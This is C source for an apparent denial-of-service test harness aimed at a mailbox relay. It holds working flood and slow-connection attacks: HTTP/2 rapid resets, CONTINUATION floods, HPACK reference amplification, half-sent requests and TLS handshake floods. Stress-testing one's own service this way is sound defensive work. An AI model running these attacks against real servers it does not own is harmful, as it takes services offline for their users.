/* SPDX-License-Identifier: Apache-2.0 */
#include "attacks.h"

#include "frames.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>

/* Not const: the macros of libssl drop it. */
static char p384[] = "P-384";

#define UUID_TEXT 37
#define STREAMS 100u
#define REQUESTS_MAX 900u /* of a connection: after 1000 the relay ends it in order */
#define ENTRY_LEN 4000u   /* of the dynamic table, which has 4096 bytes */
#define TEXT_MAX 200000u
#define NEW_MAILBOX_S 2 /* after this its creation counts as refused */

static char text[TEXT_MAX];

static void make_uuid(char out[UUID_TEXT])
{
    uint8_t b[16];

    (void)getrandom(b, sizeof(b), 0);
    snprintf(out, UUID_TEXT,
             "%02x%02x%02x%02x-%02x%02x-4%01x%02x-a%01x%02x-%02x%02x%02x%02x%02x%02x", b[0], b[1],
             b[2], b[3], b[4], b[5], b[6] & 15, b[7], b[8] & 15, b[9], b[10], b[11], b[12], b[13],
             b[14], b[15]);
}

static void put_text(struct peer *p, const char *line)
{
    peer_put(p, line, strlen(line));
}

static bool is_h2(const struct peer *p)
{
    const unsigned char *name = NULL;
    unsigned len = 0;

    SSL_get0_alpn_selected(p->ssl, &name, &len);
    return len == 2;
}

/* ---- bodies ---- */

/* A create whose payload has size bytes. Returns its length; it is in text. */
static size_t make_create(size_t size, bool is_long)
{
    size_t at = 0;

    at +=
        (size_t)snprintf(text, TEXT_MAX, "{\"payload\":{\"type\":\"AEAD_AES_128_GCM\",\"data\":\"");
    size = size > TEXT_MAX / 2 ? TEXT_MAX / 2 : size;
    memset(text + at, 'A', size);
    at += size;
    at += (size_t)snprintf(text + at, TEXT_MAX - at,
                           "\"},\"displayInformation\":{\"title\":\"t\",\"description\":\"d\","
                           "\"imageURL\":\"https://x.example/i\"}");
    if (is_long) {
        time_t end = time(NULL) + 29 * 86400;
        struct tm tm;
        char when[32];

        gmtime_r(&end, &tm);
        strftime(when, sizeof(when), "%Y-%m-%dT%H:%M:%SZ", &tm);
        at += (size_t)snprintf(text + at, TEXT_MAX - at,
                               ",\"mailboxConfiguration\":{\"accessRights\":\"RWD\","
                               "\"expiration\":\"%s\"}",
                               when);
    }
    at += (size_t)snprintf(text + at, TEXT_MAX - at, "}");
    return at;
}

/* The head of a create by that device; the body of len bytes follows. */
static void h1_create_head(struct peer *p, const char *claim, size_t len)
{
    char head[512];
    char id[UUID_TEXT];

    make_uuid(id);
    snprintf(head, sizeof(head),
             "POST /v1/m HTTP/1.1\r\nHost: relay.example\r\nMailbox-Request-ID: %s\r\n"
             "Mailbox-Device-Claim: %s\r\nContent-Type: application/json\r\n"
             "Content-Length: %zu\r\n\r\n",
             id, claim, len);
    put_text(p, head);
}

static void h1_create(struct peer *p, size_t size, bool is_whole)
{
    char claim[UUID_TEXT];
    size_t len = make_create(size, true);

    make_uuid(claim);
    h1_create_head(p, claim, len);
    peer_put(p, text, is_whole ? len : len - 1);
}

static void h2_create(struct peer *p, const char *claim, size_t size, bool is_whole)
{
    uint8_t more[1000];
    char id[UUID_TEXT];
    size_t len = make_create(size, true);
    uint32_t stream = p->stream_id;
    size_t at = 0;

    make_uuid(id);
    at = block_literal(more, at, "mailbox-request-id", id);
    at = block_literal(more, at, "mailbox-device-claim", claim);
    at = block_literal(more, at, "content-type", "application/json");
    frames_request(p, 3, "/v1/m", more, at, false);
    for (size_t sent = 0; sent < len;) {
        size_t part = len - sent < 16384 ? len - sent : 16384;
        bool is_last = sent + part == len;

        if (is_last && !is_whole) {
            break; /* the last part never comes */
        }
        frame_put(p, FRAME_DATA, is_last ? FLAG_END_STREAM : 0, stream, text + sent, part);
        sent += part;
    }
}

/* ---- what a connection sends first ---- */

static void h2_begin(struct peer *p, size_t size)
{
    (void)size;
    if (is_h2(p)) {
        frames_begin(p, 65535);
    }
}

/* Nothing of its answers is taken, but for what each step allows. */
static void h2_begin_closed(struct peer *p, size_t size)
{
    (void)size;
    frames_begin(p, 0);
    for (unsigned i = 0; i < STREAMS; i++) {
        frames_request(p, 2, "/v1/m/none", NULL, 0, true);
    }
}

static void h1_half_head(struct peer *p, size_t size)
{
    put_text(p, "GET /v1/m HTTP/1.1\r\nHost: relay.example\r\nX: ");
    memset(text, 'a', size);
    peer_put(p, text, size);
}

static void h1_half_body(struct peer *p, size_t size)
{
    h1_create(p, size, false);
}

static void h2_half_bodies(struct peer *p, size_t size)
{
    char claim[UUID_TEXT];

    make_uuid(claim);
    frames_begin(p, 65535);
    for (unsigned i = 0; i < STREAMS && p->out_len < 250000; i++) {
        h2_create(p, claim, size, false);
    }
}

/* One large entry of the dynamic table, which each further stream names eight times by one byte. */
static void h2_references(struct peer *p, size_t size)
{
    static uint8_t block[ENTRY_LEN + 100];
    uint8_t references[8];
    static char value[ENTRY_LEN];
    size_t count = size < sizeof(references) ? size : sizeof(references);

    memset(value, 'v', sizeof(value));
    memset(references, 0xbe, sizeof(references));
    frames_begin(p, 65535);
    frames_request(p, 3, "/v1/m", block, block_indexed(block, 0, "x", value, sizeof(value)), false);
    for (unsigned i = 1; i < STREAMS; i++) {
        frames_request(p, 3, "/v1/m", references, count, false);
    }
}

/* Makes a mailbox by HTTP/1.1 and waits for the answer. Returns its path, which is in the answer;
   NULL: none came. */
static const char *h1_new_mailbox(struct peer *p, const char *claim, size_t size)
{
    static char answer[4096];
    size_t len = make_create(size, false);

    h1_create_head(p, claim, len);
    peer_put(p, text, len);
    return peer_find(p, "/v1/m/", answer, sizeof(answer), NEW_MAILBOX_S);
}

/* Makes a mailbox and waits for a newer version of it. */
static void h1_long_poll(struct peer *p, size_t size)
{
    char head[512];
    char claim[UUID_TEXT];
    char id[UUID_TEXT];
    const char *path = NULL;

    make_uuid(claim);
    make_uuid(id);
    path = h1_new_mailbox(p, claim, size);
    if (path == NULL) {
        return;
    }
    snprintf(head, sizeof(head),
             "POST %.42s HTTP/1.1\r\nHost: relay.example\r\nMailbox-Request-ID: %s\r\n"
             "Mailbox-Device-Claim: %s\r\nMailbox-Known-Version: 1\r\nPrefer: wait=60\r\n"
             "Content-Length: 0\r\n\r\n",
             path, id, claim);
    put_text(p, head);
}

/* The same over HTTP/2: size long polls of one connection. */
static void h2_long_polls(struct peer *p, size_t size)
{
    static char answer[4096];
    uint8_t more[400];
    char claim[UUID_TEXT];
    char path[43];
    const char *found = NULL;
    size_t at = 0;

    make_uuid(claim);
    frames_begin(p, 65535);
    h2_create(p, claim, 100, true);
    found = peer_find(p, "/v1/m/", answer, sizeof(answer), NEW_MAILBOX_S);
    if (found == NULL) {
        return;
    }
    snprintf(path, sizeof(path), "%.42s", found);
    at = block_literal(more, at, "mailbox-request-id", claim);
    at = block_literal(more, at, "mailbox-device-claim", claim);
    at = block_literal(more, at, "mailbox-known-version", "1");
    at = block_literal(more, at, "prefer", "wait=60");
    for (size_t i = 0; i < size; i++) {
        frames_request(p, 3, path, more, at, true);
    }
}

/* Makes a mailbox that two devices may update, and binds the second. False: not within the limit.
 */
static bool h1_bound_mailbox(struct peer *p)
{
    static char answer[4096];
    char head[512];
    char recipient[UUID_TEXT];
    size_t len = make_create(100, true);
    const char *path = NULL;

    make_uuid(p->claim);
    make_uuid(recipient);
    h1_create_head(p, p->claim, len);
    peer_put(p, text, len);
    path = peer_find(p, "/v1/m/", answer, sizeof(answer), NEW_MAILBOX_S);
    if (path == NULL) {
        return false;
    }
    snprintf(p->path, sizeof(p->path), "%.42s", path);
    snprintf(head, sizeof(head),
             "POST %s HTTP/1.1\r\nHost: relay.example\r\nMailbox-Request-ID: %s\r\n"
             "Mailbox-Device-Claim: %s\r\nContent-Length: 0\r\n\r\n",
             p->path, recipient, recipient);
    put_text(p, head);
    return peer_find(p, "payload", answer, sizeof(answer), NEW_MAILBOX_S) != NULL;
}

static void h1_begin_bound(struct peer *p, size_t size)
{
    (void)size;
    (void)h1_bound_mailbox(p);
}

/* All connections use the mailbox of the first. */
static void h1_begin_shared(struct peer *p, size_t size)
{
    static char path[sizeof(p->path)];
    static char claim[sizeof(p->claim)];

    (void)size;
    if (path[0] == '\0' && h1_bound_mailbox(p)) {
        memcpy(path, p->path, sizeof(path));
        memcpy(claim, p->claim, sizeof(claim));
    }
    memcpy(p->path, path, sizeof(path));
    memcpy(p->claim, claim, sizeof(claim));
}

/* A mailbox is made over HTTP/2 for each connection; its initiator may update it unbound. */
static void h2_begin_mailbox(struct peer *p, size_t size)
{
    static char answer[4096];
    const char *path = NULL;

    (void)size;
    make_uuid(p->claim);
    frames_begin(p, 65535);
    h2_create(p, p->claim, 100, true);
    path = peer_find(p, "/v1/m/", answer, sizeof(answer), NEW_MAILBOX_S);
    if (path != NULL) {
        snprintf(p->path, sizeof(p->path), "%.42s", path);
    }
}

/* ---- what it sends again and again ---- */

/* The body of an update whose payload has size bytes. Returns its length; it is in text. */
static size_t make_update(size_t size)
{
    size_t at =
        (size_t)snprintf(text, TEXT_MAX, "{\"payload\":{\"type\":\"AEAD_AES_128_GCM\",\"data\":\"");

    size = size > TEXT_MAX / 2 ? TEXT_MAX / 2 : size;
    memset(text + at, 'A', size);
    at += size;
    return at + (size_t)snprintf(text + at, TEXT_MAX - at, "\"}}");
}

static bool h1_updates(struct peer *p, size_t size)
{
    char head[512];
    char id[UUID_TEXT];
    size_t len = make_update(size);

    if (p->path[0] == '\0') {
        return false;
    }
    make_uuid(id);
    snprintf(head, sizeof(head),
             "PUT %s HTTP/1.1\r\nHost: relay.example\r\nMailbox-Request-ID: %s\r\n"
             "Mailbox-Device-Claim: %s\r\nContent-Type: application/json\r\n"
             "Content-Length: %zu\r\n\r\n",
             p->path, id, p->claim, len);
    put_text(p, head);
    peer_put(p, text, len);
    return p->step_count < REQUESTS_MAX;
}

/* :method PUT is in no table. */
static bool h2_updates(struct peer *p, size_t size)
{
    uint8_t more[1000];
    char id[UUID_TEXT];
    size_t len = make_update(size);
    uint32_t stream = p->stream_id;
    size_t at = 0;

    if (p->path[0] == '\0') {
        return false;
    }
    make_uuid(id);
    at = block_literal(more, at, "mailbox-request-id", id);
    at = block_literal(more, at, "mailbox-device-claim", p->claim);
    at = block_literal(more, at, "content-type", "application/json");
    frames_request(p, METHOD_PUT, p->path, more, at, false);
    for (size_t sent = 0; sent < len;) {
        size_t part = len - sent < 16384 ? len - sent : 16384;

        frame_put(p, FRAME_DATA, sent + part == len ? FLAG_END_STREAM : 0, stream, text + sent,
                  part);
        sent += part;
    }
    return p->stream_count < REQUESTS_MAX;
}

/* http:// on the port of https://, each time on a new connection. */
static bool plain_request(struct peer *p, size_t size)
{
    (void)size;
    if (p->step_count == 0) {
        put_text(p, "GET / HTTP/1.1\r\nHost: relay.example\r\n\r\n");
    }
    return peer_read(p, NULL, 0) == 0; /* answered: again */
}

static bool h2_settings(struct peer *p, size_t size)
{
    static const uint8_t one[6] = { 0, 4, 0, 0, 0xff, 0xff };

    (void)size;
    frame_put(p, FRAME_SETTINGS, 0, 0, one, sizeof(one)); /* each is acknowledged */
    return true;
}

static bool h2_priorities(struct peer *p, size_t size)
{
    static const uint8_t first[5] = { 0, 0, 0, 0, 15 };

    (void)size;
    frame_put(p, FRAME_PRIORITY, 0, 1001, first, sizeof(first));
    return true;
}

/* A header block that never ends, in frames of no bytes. */
static bool h2_continuations(struct peer *p, size_t size)
{
    static const uint8_t start[1] = { 0x82 };

    (void)size;
    if (p->step_count == 0) {
        frame_put(p, FRAME_HEADERS, 0, 1, start, sizeof(start));
    }
    frame_put(p, FRAME_CONTINUATION, 0, 1, start, 0);
    return true;
}

static bool h1_requests(struct peer *p, size_t size)
{
    char head[256];
    char id[UUID_TEXT];

    (void)size;
    make_uuid(id);
    snprintf(head, sizeof(head), "GET /v1/m/%s HTTP/1.1\r\nHost: relay.example\r\n\r\n", id);
    put_text(p, head);
    return p->step_count < REQUESTS_MAX;
}

static bool h2_requests(struct peer *p, size_t size)
{
    char path[64];
    char id[UUID_TEXT];

    (void)size;
    make_uuid(id);
    snprintf(path, sizeof(path), "/v1/m/%s", id);
    frames_request(p, 2, path, NULL, 0, true);
    return p->stream_count < REQUESTS_MAX;
}

static bool h1_refused(struct peer *p, size_t size)
{
    put_text(p, "GET /v1/m HTTP/1.1\r\nHost: relay.example\r\nX: ");
    memset(text, 'a', size);
    peer_put(p, text, size);
    put_text(p, "\r\n\r\n");
    return p->step_count < REQUESTS_MAX;
}

/* A header block of references that is far over the limit once it is decoded. */
static bool h2_refused(struct peer *p, size_t size)
{
    static uint8_t block[ENTRY_LEN + 100];
    static uint8_t references[15000];
    static char value[ENTRY_LEN];
    size_t count = size < sizeof(references) ? size : sizeof(references);

    if (p->stream_count == 0) {
        memset(value, 'v', sizeof(value));
        frames_request(p, 2, "/v1/m", block, block_indexed(block, 0, "x", value, sizeof(value)),
                       true);
    }
    memset(references, 0xbe, count);
    frames_request(p, 2, "/v1/m", references, count, true);
    return p->stream_count < REQUESTS_MAX;
}

/* A create whose body is mostly small values that nobody reads. */
static bool h1_values(struct peer *p, size_t size)
{
    char claim[UUID_TEXT];
    size_t len = make_create(1, false) - 1; /* without its end */
    size_t end = size > TEXT_MAX / 2 ? TEXT_MAX / 2 : size;

    make_uuid(claim);
    len += (size_t)snprintf(text + len, TEXT_MAX - len, ",\"x\":[1");
    while (len + 4 < end) {
        text[len++] = ',';
        text[len++] = '1';
    }
    text[len++] = ']';
    text[len++] = '}';
    h1_create_head(p, claim, len);
    peer_put(p, text, len);
    return p->step_count < REQUESTS_MAX;
}

static bool h1_creates(struct peer *p, size_t size)
{
    h1_create(p, size, true);
    return p->step_count < REQUESTS_MAX;
}

static bool h2_creates(struct peer *p, size_t size)
{
    char claim[UUID_TEXT];

    make_uuid(claim);
    h2_create(p, claim, size, true);
    return p->stream_count < REQUESTS_MAX;
}

/* Makes a mailbox and deletes it: what it leaves is a tombstone. */
static bool h1_churn(struct peer *p, size_t size)
{
    char head[512];
    char claim[UUID_TEXT];
    const char *path = NULL;

    make_uuid(claim);
    path = h1_new_mailbox(p, claim, size);
    if (path == NULL) {
        return false;
    }
    snprintf(head, sizeof(head),
             "DELETE %.42s HTTP/1.1\r\nHost: relay.example\r\nMailbox-Request-ID: %s\r\n"
             "Mailbox-Device-Claim: %s\r\n\r\n",
             path, claim, claim);
    put_text(p, head);
    return p->step_count < REQUESTS_MAX / 2;
}

/* A request whose body is empty and whose trailers fill a head. */
static bool h1_trailers(struct peer *p, size_t size)
{
    put_text(
        p, "POST /v1/m HTTP/1.1\r\nHost: relay.example\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n");
    for (size_t i = 0; i < size; i++) {
        put_text(p, "x-trailer: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n");
    }
    put_text(p, "\r\n");
    return p->step_count < REQUESTS_MAX;
}

/* A request that ends with size trailers. */
static bool h2_trailers(struct peer *p, size_t size)
{
    static uint8_t block[4096];
    uint32_t stream = p->stream_id;
    size_t len = 0;

    for (size_t i = 0; i < size; i++) {
        len = block_literal(block, len, "x-trailer", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
    }
    frames_request(p, 3, "/v1/m", NULL, 0, false);
    frame_put(p, FRAME_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, stream, block, len);
    return p->stream_count < REQUESTS_MAX;
}

static bool again(struct peer *p, size_t size)
{
    (void)p;
    (void)size;
    return false;
}

static bool key_update(struct peer *p, size_t size)
{
    (void)size;
    return SSL_key_update(p->ssl, SSL_KEY_UPDATE_NOT_REQUESTED) == 1 &&
           SSL_do_handshake(p->ssl) == 1;
}

/* Each byte in a record of its own. */
static bool tiny_records(struct peer *p, size_t size)
{
    static const char line[] =
        "GET /v1/m/x HTTP/1.1\r\nHost: relay.example\r\nX-Long: aaaaaaaaaa\r\n\r\n";

    (void)size;
    peer_put(p, line + p->step_count % (sizeof(line) - 1), 1);
    return true;
}

static bool hello_byte(struct peer *p, size_t size)
{
    static const uint8_t hello[] = { 22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3 };

    (void)size;
    peer_put(p, p->step_count < sizeof(hello) ? hello + p->step_count : hello + 4, 1);
    return true;
}

/* A whole ClientHello, which costs the relay a key exchange and a signature, and this client
   nothing: it is made once. size 1: over P-384. */
static bool hello(struct peer *p, size_t size)
{
    static uint8_t bytes[2048];
    static long len;

    if (len == 0) {
        SSL *ssl = SSL_new(p->target->tls);
        BIO *out = BIO_new(BIO_s_mem());
        BIO *in = BIO_new(BIO_s_mem());

        if (ssl == NULL || out == NULL || in == NULL) {
            exit(1);
        }
        SSL_set_bio(ssl, in, out);
        if (size == 1) {
            (void)SSL_set1_groups_list(ssl, p384);
        }
        SSL_set_connect_state(ssl);
        (void)SSL_do_handshake(ssl);
        len = BIO_read(out, bytes, sizeof(bytes));
        SSL_free(ssl);
    }
    if (p->step_count == 0) {
        peer_put(p, bytes, (size_t)len);
    }
    return peer_read(p, NULL, 0) == 0; /* the answer is there: again */
}

static bool h2_resets(struct peer *p, size_t size)
{
    static const uint8_t cancel[4] = { 0, 0, 0, 8 };
    uint32_t stream = p->stream_id;

    (void)size;
    frames_request(p, 2, "/v1/m/none", NULL, 0, true);
    frame_put(p, FRAME_RST_STREAM, 0, stream, cancel, sizeof(cancel));
    return p->stream_count < REQUESTS_MAX;
}

/* The server resets the stream, because its window is opened by 0. */
static bool h2_made_resets(struct peer *p, size_t size)
{
    uint32_t stream = p->stream_id;

    (void)size;
    frames_request(p, 3, "/v1/m", NULL, 0, false);
    frame_window(p, stream, 0);
    return p->stream_count < REQUESTS_MAX;
}

static bool h2_small_data(struct peer *p, size_t size)
{
    static const uint8_t padded[200] = { 198, 'x' };

    if (p->stream_count == 0) {
        frames_request(p, 3, "/v1/m", NULL, 0, false);
    }
    frame_put(p, FRAME_DATA, size > 1 ? FLAG_PADDED : 0, 1, size > 1 ? padded : padded + 1,
              size > 1 ? sizeof(padded) : 1);
    return true;
}

static bool h2_windows(struct peer *p, size_t size)
{
    (void)size;
    frame_window(p, 0, 1);
    return true;
}

static bool h2_pings(struct peer *p, size_t size)
{
    static const uint8_t bytes[8] = { 1 };

    (void)size;
    frame_put(p, FRAME_PING, 0, 0, bytes, sizeof(bytes));
    return true;
}

static bool h2_unknown(struct peer *p, size_t size)
{
    (void)size;
    frame_put(p, FRAME_UNKNOWN, 0, 0, NULL, 0);
    return true;
}

static bool h2_slow_take(struct peer *p, size_t size)
{
    (void)size;
    for (uint32_t stream = 1; stream < 2 * STREAMS; stream += 2) {
        frame_window(p, stream, 1);
    }
    return true;
}

/* Asks for more and more answers and reads none of them. The driver does not read for it. */
static bool h1_no_reading(struct peer *p, size_t size)
{
    for (unsigned i = 0; i < 50; i++) {
        (void)h1_requests(p, size);
    }
    return true;
}

#define H1 .version = HTTP_1
#define H2 .version = HTTP_2, .is_tls = true
const struct attack attacks[] = {
    { .name = "idle", H1, .pace = PACE_HOLD, .is_tls = true },
    { .name = "idle", H2, .pace = PACE_HOLD, .begin = h2_begin },
    { .name = "no-hello", H1, .pace = PACE_HOLD },
    { .name = "slow-hello", H1, .pace = PACE_HOLD, .step = hello_byte },
    { .name = "hellos", H1, .pace = PACE_FLOOD, .step = hello },
    { .name = "handshakes", H1, .pace = PACE_FLOOD, .is_tls = true, .step = again },
    { .name = "handshakes-p384",
      H1,
      .pace = PACE_FLOOD,
      .is_tls = true,
      .groups = "P-384",
      .step = again },
    { .name = "key-updates", H1, .pace = PACE_FLOOD, .is_tls = true, .step = key_update },
    { .name = "tiny-records", H1, .pace = PACE_FLOOD, .is_tls = true, .step = tiny_records },
    { .name = "requests", H1, .pace = PACE_FLOOD, .is_tls = true, .step = h1_requests },
    { .name = "requests", H2, .pace = PACE_FLOOD, .begin = h2_begin, .step = h2_requests },
    { .name = "refused", H1, .pace = PACE_FLOOD, .is_tls = true, .step = h1_refused },
    { .name = "refused", H2, .pace = PACE_FLOOD, .begin = h2_begin, .step = h2_refused },
    { .name = "creates", H1, .pace = PACE_FLOOD, .is_tls = true, .step = h1_creates },
    { .name = "creates", H2, .pace = PACE_FLOOD, .begin = h2_begin, .step = h2_creates },
    { .name = "values", H1, .pace = PACE_FLOOD, .is_tls = true, .step = h1_values },
    { .name = "updates",
      H1,
      .pace = PACE_FLOOD,
      .is_tls = true,
      .begin = h1_begin_bound,
      .step = h1_updates },
    { .name = "updates", H2, .pace = PACE_FLOOD, .begin = h2_begin_mailbox, .step = h2_updates },
    { .name = "updates-of-one",
      H1,
      .pace = PACE_FLOOD,
      .is_tls = true,
      .begin = h1_begin_shared,
      .step = h1_updates },
    { .name = "plain-http", H1, .pace = PACE_FLOOD, .step = plain_request },
    { .name = "half-heads", H1, .pace = PACE_HOLD, .is_tls = true, .begin = h1_half_head },
    { .name = "half-bodies", H1, .pace = PACE_HOLD, .is_tls = true, .begin = h1_half_body },
    { .name = "half-bodies", H2, .pace = PACE_HOLD, .begin = h2_half_bodies },
    { .name = "long-polls", H1, .pace = PACE_HOLD, .is_tls = true, .begin = h1_long_poll },
    { .name = "long-polls", H2, .pace = PACE_HOLD, .begin = h2_long_polls },
    { .name = "churn", H1, .pace = PACE_FLOOD, .is_tls = true, .step = h1_churn },
    { .name = "trailers", H1, .pace = PACE_FLOOD, .is_tls = true, .step = h1_trailers },
    { .name = "trailers", H2, .pace = PACE_FLOOD, .begin = h2_begin, .step = h2_trailers },
    { .name = "references", H2, .pace = PACE_HOLD, .begin = h2_references },
    { .name = "no-reading", H1, .pace = PACE_HOLD, .is_tls = true, .step = h1_no_reading },
    { .name = "slow-takers",
      H2,
      .pace = PACE_HOLD,
      .begin = h2_begin_closed,
      .step = h2_slow_take },
    { .name = "resets", H2, .pace = PACE_FLOOD, .begin = h2_begin, .step = h2_resets },
    { .name = "made-resets", H2, .pace = PACE_FLOOD, .begin = h2_begin, .step = h2_made_resets },
    { .name = "small-data", H2, .pace = PACE_FLOOD, .begin = h2_begin, .step = h2_small_data },
    { .name = "windows", H2, .pace = PACE_FLOOD, .begin = h2_begin, .step = h2_windows },
    { .name = "pings", H2, .pace = PACE_FLOOD, .begin = h2_begin, .step = h2_pings },
    { .name = "settings", H2, .pace = PACE_FLOOD, .begin = h2_begin, .step = h2_settings },
    { .name = "priorities", H2, .pace = PACE_FLOOD, .begin = h2_begin, .step = h2_priorities },
    { .name = "continuations",
      H2,
      .pace = PACE_FLOOD,
      .begin = h2_begin,
      .step = h2_continuations },
    { .name = "unknown-frames", H2, .pace = PACE_FLOOD, .begin = h2_begin, .step = h2_unknown },
};
const size_t attack_count = sizeof(attacks) / sizeof(attacks[0]);
